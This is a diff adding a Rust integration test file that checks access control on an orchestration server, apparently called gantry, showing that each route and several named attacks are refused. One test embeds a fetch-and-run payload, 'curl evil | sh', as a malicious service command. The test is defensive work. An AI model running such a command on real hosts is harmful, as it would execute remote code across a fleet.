@@ -1,0 +1,331 @@
+//! Access control as an attacker meets it (issue 15): every documented
+//! route refuses callers without the right, and each attack the issue
+//! found on an open server fails now, leaving the store as it was.
+
+use std::collections::BTreeMap;
+use std::time::Duration;
+
+use futures::StreamExt;
+use gantry_api::{
+    Access, AgentIdentity, ErrorCode, Group, Health, Instance, Machine, Policy, Rule, ServiceControl, TokenRequest,
+};
+use gantry_client::{Client, PutOptions, WatchItem};
+use reqwest::Method;
+
+use super::TestServer;
+use super::openapi::{body, document, fill};
+
+/// The fleet the attacks are tried on: machine m1 (group api, federation
+/// blue) runs api, which requires a datastore; m2 (group web, federation
+/// green) runs green's www.
+async fn fleet(s: &TestServer) {
+    let c = &s.client;
+    let put = |id: &str, json: serde_json::Value| {
+        let definition: gantry_api::ServiceDefinition = serde_json::from_value(json).unwrap();
+        let c = c.clone();
+        let id = id.to_owned();
+        async move {
+            assert_eq!(definition.id, id);
+            c.put_service(&definition).await.unwrap();
+        }
+    };
+    put(
+        "api",
+        serde_json::json!({"id": "api", "federation": "blue", "environment": {"PORT": 1100},
+        "requires": {"DB": "{BLUE_DB}"}, "provides": {"API_URL": "http://{HOST}:{PORT}"}, "local_port": 1100}),
+    )
+    .await;
+    put(
+        "www",
+        serde_json::json!({"id": "www", "federation": "green", "environment": {"PORT": 8080},
+        "requires": {"DB": "{GREEN_DB}"}}),
+    )
+    .await;
+    c.put_group(&Group { name: "api".into(), run_list: vec![], services: vec!["api".into()] }).await.unwrap();
+    c.put_group(&Group { name: "web".into(), run_list: vec![], services: vec!["www".into()] }).await.unwrap();
+    c.kv_put("datastores/BLUE_DB", "mysql://blue:secret@db/blue", PutOptions::default()).await.unwrap();
+    c.kv_put("datastores/GREEN_DB", "mysql://green:secret@db/green", PutOptions::default()).await.unwrap();
+    for (id, address, group) in [("m1", "127.0.0.2", "api"), ("m2", "127.0.0.3", "web")] {
+        c.put_machine(&machine(id, address, group), PutOptions::default()).await.unwrap();
+    }
+    c.put_instance(&instance("api", "m1", "127.0.0.2", "blue"), PutOptions::default()).await.unwrap();
+    c.put_instance(&instance("www", "m2", "127.0.0.3", "green"), PutOptions::default()).await.unwrap();
+}
+
+fn machine(id: &str, address: &str, group: &str) -> Machine {
+    Machine {
+        id: id.into(),
+        hostname: id.into(),
+        address: address.into(),
+        facts: Default::default(),
+        labels: BTreeMap::from([("group".into(), group.into())]),
+        updated_at: 0,
+    }
+}
+
+fn instance(service: &str, machine: &str, address: &str, federation: &str) -> Instance {
+    Instance {
+        service: service.into(),
+        id: machine.into(),
+        machine: machine.into(),
+        address: address.into(),
+        port: 1100,
+        properties: BTreeMap::new(),
+        health: Health::Passing,
+        federation: federation.into(),
+        public: false,
+        provides: BTreeMap::new(),
+    }
+}
+
+/// A new token of `request`, as a client.
+async fn token(s: &TestServer, request: TokenRequest) -> Client {
+    let created = s.client.create_token(&request).await.unwrap();
+    Client::new(&s.url).with_token(&created.secret)
+}
+
+async fn agent(s: &TestServer, machine: &str, federation: &str) -> Client {
+    let identity = AgentIdentity { machine: machine.into(), federation: federation.into() };
+    token(s, TokenRequest { name: format!("agent {machine}"), agent: Some(identity), ..Default::default() }).await
+}
+
+async fn read_only(s: &TestServer) -> Client {
+    let policy = Policy {
+        name: "read-only".into(),
+        description: "everything but secrets".into(),
+        rules: vec![
+            Rule { prefix: String::new(), access: Access::Read },
+            Rule { prefix: "kv/datastores/".into(), access: Access::Deny },
+            Rule { prefix: "acl/".into(), access: Access::Deny },
+        ],
+        federations: vec![],
+    };
+    s.client.put_policy(&policy).await.unwrap();
+    token(s, TokenRequest { name: "auditor".into(), policies: vec!["read-only".into()], ..Default::default() }).await
+}
+
+fn code(result: Result<impl std::fmt::Debug, gantry_client::ClientError>) -> Option<ErrorCode> {
+    result.err().and_then(|e| e.code())
+}
+
+/// Every documented operation, asked without a token, with an unknown one,
+/// with a revoked one, with a read-only one, and with an agent's token of
+/// a machine the path is not about: each gets its 401 or 403 (or, where
+/// the caller may, an answer), and none of the refused requests changes
+/// the store.
+#[tokio::test]
+async fn every_route_refuses_callers_without_the_right() {
+    let s = TestServer::embedded_with_acl().await;
+    fleet(&s).await;
+    let lease = s.client.grant_lease(Duration::from_secs(60)).await.unwrap().id;
+    let victim = s
+        .client
+        .create_token(&TokenRequest {
+            name: "victim".into(),
+            policies: vec!["management".into()],
+            ..Default::default()
+        })
+        .await
+        .unwrap();
+    let revoked = s
+        .client
+        .create_token(&TokenRequest { name: "gone".into(), policies: vec!["management".into()], ..Default::default() })
+        .await
+        .unwrap();
+    s.client.revoke_token(&revoked.token.accessor).await.unwrap();
+    let read_only_secret = {
+        read_only(&s).await;
+        s.client
+            .create_token(&TokenRequest { name: "ro".into(), policies: vec!["read-only".into()], ..Default::default() })
+            .await
+            .unwrap()
+            .secret
+    };
+    // An agent of m2 (green): the paths below are about m1 (blue).
+    let m2 = s
+        .client
+        .create_token(&TokenRequest {
+            agent: Some(AgentIdentity { machine: "m2".into(), federation: "green".into() }),
+            ..Default::default()
+        })
+        .await
+        .unwrap()
+        .secret;
+    let http = reqwest::Client::new();
+    let before = s.client.health().await.unwrap().revision;
+    let doc = document();
+    let mut refused = 0;
+    for (template, item) in doc["paths"].as_object().unwrap() {
+        for method in [Method::GET, Method::PUT, Method::POST, Method::DELETE] {
+            if item.get(method.as_str().to_lowercase()).is_none() {
+                continue;
+            }
+            let open = matches!(template.as_str(), "/v1/health" | "/v1/openapi.json");
+            let url = format!("{}{}", s.url, fill(template, &lease, &victim.token.accessor));
+            let ask = |token: Option<&str>| {
+                let mut request = http.request(method.clone(), &url).body(body(&method, template));
+                if let Some(token) = token {
+                    request = request.bearer_auth(token);
+                }
+                request.send()
+            };
+            for (who, token) in [
+                ("no token", None),
+                ("an unknown token", Some("0".repeat(64))),
+                ("a revoked token", Some(revoked.secret.clone())),
+            ] {
+                let response = ask(token.as_deref()).await.unwrap();
+                let status = response.status().as_u16();
+                // Health answers anyone without a token (balancers ask it);
+                // a token it does not know is still refused there.
+                if template == "/v1/openapi.json" || (template == "/v1/health" && token.is_none()) {
+                    assert!(status < 400, "{method} {template} with {who}: {status}");
+                    continue;
+                }
+                let error: gantry_api::ErrorBody = response.json().await.unwrap();
+                assert_eq!(
+                    (status, error.error.code),
+                    (401, ErrorCode::Unauthorized),
+                    "{method} {template} with {who}"
+                );
+                refused += 1;
+            }
+            // Read-only: no write anywhere; no secret, no token, ever.
+            let response = ask(Some(&read_only_secret)).await.unwrap();
+            let status = response.status().as_u16();
+            let writes = method != Method::GET;
+            let secret_read = template.starts_with("/v1/acl/tokens")
+                || template == "/v1/acl/policies"
+                || template.starts_with("/v1/acl/policies/");
+            if !open && template != "/v1/acl/self" && (writes || secret_read) {
+                assert_eq!(status, 403, "{method} {template} with a read-only token");
+                refused += 1;
+            }
+            // m2's agent, on m1's things and the operators' routes.
+            // What an agent may write at all: leases, its machine, its status, its instances.
+            let agents_write = template == "/v1/leases"
+                || template.starts_with("/v1/leases/")
+                || template == "/v1/machines/{id}"
+                || template == "/v1/agents/{machine}/status"
+                || template == "/v1/services/{service}/instances/{id}";
+            let operator_only = writes && !agents_write;
+            let about_m1 = template.contains("{machine}")
+                || template == "/v1/machines/{id}"
+                || template.contains("/instances/{id}");
+            if !open && (operator_only || (writes && about_m1)) {
+                let status = ask(Some(&m2)).await.unwrap().status().as_u16();
+                assert_eq!(status, 403, "{method} {template} with m2's agent token");
+                refused += 1;
+            }
+        }
+    }
+    assert!(refused > 100, "only {refused} refusals were checked");
+    assert_eq!(s.client.health().await.unwrap().revision, before, "a refused request changed the store");
+}
+
+/// Issue 15's attacks, each refused, each leaving the store as it was.
+#[tokio::test]
+async fn the_attacks_found_on_an_open_server_all_fail() {
+    let s = TestServer::embedded_with_acl().await;
+    fleet(&s).await;
+    let anonymous = Client::new(&s.url);
+    let m1 = agent(&s, "m1", "blue").await;
+    let m2 = agent(&s, "m2", "green").await;
+    let before = s.client.health().await.unwrap().revision;
+
+    // Remote code execution: a new command for api on every node running it.
+    let evil: gantry_api::ServiceDefinition =
+        serde_json::from_value(serde_json::json!({"id": "api", "command": "curl evil | sh"})).unwrap();
+    assert_eq!(code(anonymous.put_service(&evil).await), Some(ErrorCode::Unauthorized));
+    assert_eq!(code(m1.put_service(&evil).await), Some(ErrorCode::Forbidden));
+    // on_delete everywhere: delete a group.
+    assert_eq!(code(anonymous.delete_group("api").await), Some(ErrorCode::Unauthorized));
+    assert_eq!(code(m2.delete_group("api").await), Some(ErrorCode::Forbidden));
+    // Reading datastores: nothing without a token; an agent only what its
+    // services require.
+    assert_eq!(code(anonymous.kv_list("datastores/").await), Some(ErrorCode::Unauthorized));
+    let seen = m1.kv_list("datastores/").await.unwrap();
+    assert_eq!(seen.entries.iter().map(|e| e.key.as_str()).collect::<Vec<_>>(), ["datastores/BLUE_DB"]);
+    assert_eq!(code(m1.kv_get("datastores/GREEN_DB").await), Some(ErrorCode::Forbidden));
+    assert_eq!(code(read_only(&s).await.kv_get("datastores/BLUE_DB").await), Some(ErrorCode::Forbidden));
+    // Lease guessing: m1's lease cannot be renewed or revoked by another.
+    let lease = m1.grant_lease(Duration::from_secs(60)).await.unwrap();
+    m1.put_machine(&machine("m1", "127.0.0.2", "api"), PutOptions { lease: Some(lease.id.clone()), cas: None })
+        .await
+        .unwrap();
+    assert_eq!(code(m2.revoke_lease(&lease.id).await), Some(ErrorCode::Forbidden));
+    assert_eq!(code(m2.keep_alive(&lease.id).await), Some(ErrorCode::Forbidden));
+    assert_eq!(code(anonymous.revoke_lease(&lease.id).await), Some(ErrorCode::Unauthorized));
+    assert!(s.client.machine("m1").await.is_ok(), "m1 is still in the inventory");
+    // Instance poisoning: m2 registering api (which it does not run), or
+    // an instance at another address, or as m1.
+    for poisoned in [
+        instance("api", "m2", "127.0.0.3", "blue"),
+        instance("www", "m2", "10.6.6.6", "green"),
+        instance("api", "m1", "127.0.0.2", "blue"),
+    ] {
+        assert_eq!(
+            code(m2.put_instance(&poisoned, PutOptions::default()).await),
+            Some(ErrorCode::Forbidden),
+            "{poisoned:?}"
+        );
+    }
+    // Its own instance, at its own address, of the service it runs: fine.
+    m2.put_instance(&instance("www", "m2", "127.0.0.3", "green"), PutOptions::default()).await.unwrap();
+    // Control forgery: stopping api on m1, even by m1's own agent.
+    let stop = ServiceControl { running: false, restart: None };
+    for forger in [&m2, &m1] {
+        assert_eq!(code(forger.put_service_control("m1", "api", &stop).await), Some(ErrorCode::Forbidden));
+    }
+    assert_eq!(code(m2.put_agent_status(&status("m1"), PutOptions::default()).await), Some(ErrorCode::Forbidden));
+    // Cross-federation reads: green's agent sees green's only.
+    let services: Vec<String> = m2.services().await.unwrap().items.into_iter().map(|d| d.id).collect();
+    assert_eq!(services, ["www"]);
+    let instances = m2.instances_with(&[]).await.unwrap().items;
+    assert!(instances.iter().all(|i| i.federation == "green"), "{instances:?}");
+    assert_eq!(code(m2.kv_get("datastores/BLUE_DB").await), Some(ErrorCode::Forbidden));
+    assert_eq!(code(m2.lookup("api", &[]).await).map(|c| c == ErrorCode::NotFound), Some(true));
+    // Nothing refused was stored.
+    let api = s.client.services().await.unwrap().items.into_iter().find(|d| d.id == "api").unwrap();
+    assert_eq!(api.command, None, "api's definition is the operator's");
+    assert!(s.client.group("api").await.unwrap().is_some());
+    assert_eq!(s.client.service_control("m1", "api").await.unwrap(), None);
+    assert_eq!(s.client.agent_status("m1").await.unwrap(), None);
+    let api_hosts: Vec<String> =
+        s.client.service_instances("api", &[]).await.unwrap().items.into_iter().map(|i| i.id).collect();
+    assert_eq!(api_hosts, ["m1"]);
+    let m1_instance = s.client.service_instances("api", &[]).await.unwrap().items.remove(0);
+    assert_eq!(m1_instance.address, "127.0.0.2");
+    let _ = before;
+}
+
+fn status(machine: &str) -> gantry_api::AgentStatus {
+    serde_json::from_value(serde_json::json!({"machine": machine, "services": [], "updated_at_ms": 1})).unwrap()
+}
+
+/// A watch shows its caller only the events it may read: another
+/// federation's instances and another node's datastores never arrive.
+#[tokio::test]
+async fn watches_carry_only_what_the_caller_may_read() {
+    let s = TestServer::embedded_with_acl().await;
+    fleet(&s).await;
+    let m2 = agent(&s, "m2", "green").await;
+    let revision = s.client.health().await.unwrap().revision;
+    let instances = m2.watch("instances/", revision + 1, None).await.unwrap();
+    let datastores = m2.watch("kv/datastores/", revision + 1, None).await.unwrap();
+    s.client.put_instance(&instance("api", "m1", "127.0.0.2", "blue"), PutOptions::default()).await.unwrap();
+    s.client.kv_put("datastores/BLUE_DB", "mysql://blue:rotated@db/blue", PutOptions::default()).await.unwrap();
+    s.client.put_instance(&instance("www", "m2", "127.0.0.3", "green"), PutOptions::default()).await.unwrap();
+    s.client.kv_put("datastores/GREEN_DB", "mysql://green:rotated@db/green", PutOptions::default()).await.unwrap();
+    // Blue's changes came first; each stream's first event is green's.
+    assert_eq!(first_key(instances).await, "instances/www/m2");
+    assert_eq!(first_key(datastores).await, "kv/datastores/GREEN_DB");
+}
+
+async fn first_key(stream: impl futures::Stream<Item = Result<WatchItem, gantry_client::ClientError>>) -> String {
+    futures::pin_mut!(stream);
+    match tokio::time::timeout(Duration::from_secs(5), stream.next()).await {
+        Ok(Some(Ok(WatchItem::Event { event, .. }))) => event.key,
+        other => panic!("{other:?}"),
+    }
+}
